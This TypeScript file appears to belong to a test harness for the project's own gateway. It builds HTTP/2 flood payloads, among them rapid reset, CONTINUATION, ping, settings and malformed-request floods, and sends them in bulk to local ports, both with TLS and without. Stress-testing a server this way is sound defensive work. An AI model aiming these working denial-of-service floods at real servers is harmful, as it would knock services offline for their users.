import { FRAME, FrameClient, frame, GET, literal } from '../h2-frames.ts'
import { type Attack, pick } from './attack.ts'

const CANCEL = Buffer.from([0, 0, 0, 8])
const POST = literal({ ':method': 'POST', ':scheme': 'https', ':authority': 'a', ':path': '/' })

/** Frames that cost the server more than their bytes: those of the n-th turn, by name. */
export const FLOODS: Readonly<Record<string, (turn: number) => Uint8Array[]>> = {
  'rapid reset': (turn) => [frame(FRAME.headers, 5, 2 * turn + 1, GET), frame(FRAME.reset, 0, 2 * turn + 1, CANCEL)],
  settings: () => [frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))],
  ping: () => [frame(FRAME.ping, 0, 0, Buffer.alloc(8))],
  priority: (turn) => [frame(FRAME.priority, 0, 2 * turn + 1, Buffer.from([0, 0, 0, 0, 1]))],
  'window update': () => [frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))],
  'empty DATA': (turn) => [turn === 0 ? frame(FRAME.headers, 4, 1, POST) : frame(FRAME.data, 0, 1)],
  'empty CONTINUATION': (turn) => [turn === 0 ? frame(FRAME.headers, 1, 1, GET) : frame(FRAME.continuation, 0, 1)],
  'CONTINUATION with fields': (turn) => [
    turn === 0
      ? frame(FRAME.headers, 1, 1, GET)
      : frame(FRAME.continuation, 0, 1, literal({ 'x-more': 'x'.repeat(100) })),
  ],
  'unknown frames': () => [frame(0xbb, 0, 0, Buffer.alloc(64))],
  'requests that are malformed': (turn) => [
    frame(FRAME.headers, 5, 2 * turn + 1, literal({ ':method': 'GET', 'X-Upper': '1' })),
  ],
}

const KINDS = Object.values(FLOODS)
const ROUNDS = 100
const FRAMES_PER_ROUND = 200

/** A flood of one kind after the other, each until the gateway closes or 20,000 were sent; all with TLS, then all without. */
export const http2Floods: Attack = {
  name: 'HTTP/2 floods',
  clients: 1,
  async turn({ port, securePort }, round) {
    const isSecure = Math.floor(round / KINDS.length) % 2 === 0
    await using client = await FrameClient.open(isSecure ? securePort : port, isSecure ? 'https' : 'http')
    const flood = pick(KINDS, round)
    for (let sent = 0; sent < ROUNDS && !client.socket.destroyed; sent++) {
      client.send(...Array.from({ length: FRAMES_PER_ROUND }, (_, at) => flood(sent * FRAMES_PER_ROUND + at)).flat())
      // It is reset where the gateway closes with frames unread.
      await client.flushed().catch(() => {})
    }
  },
}
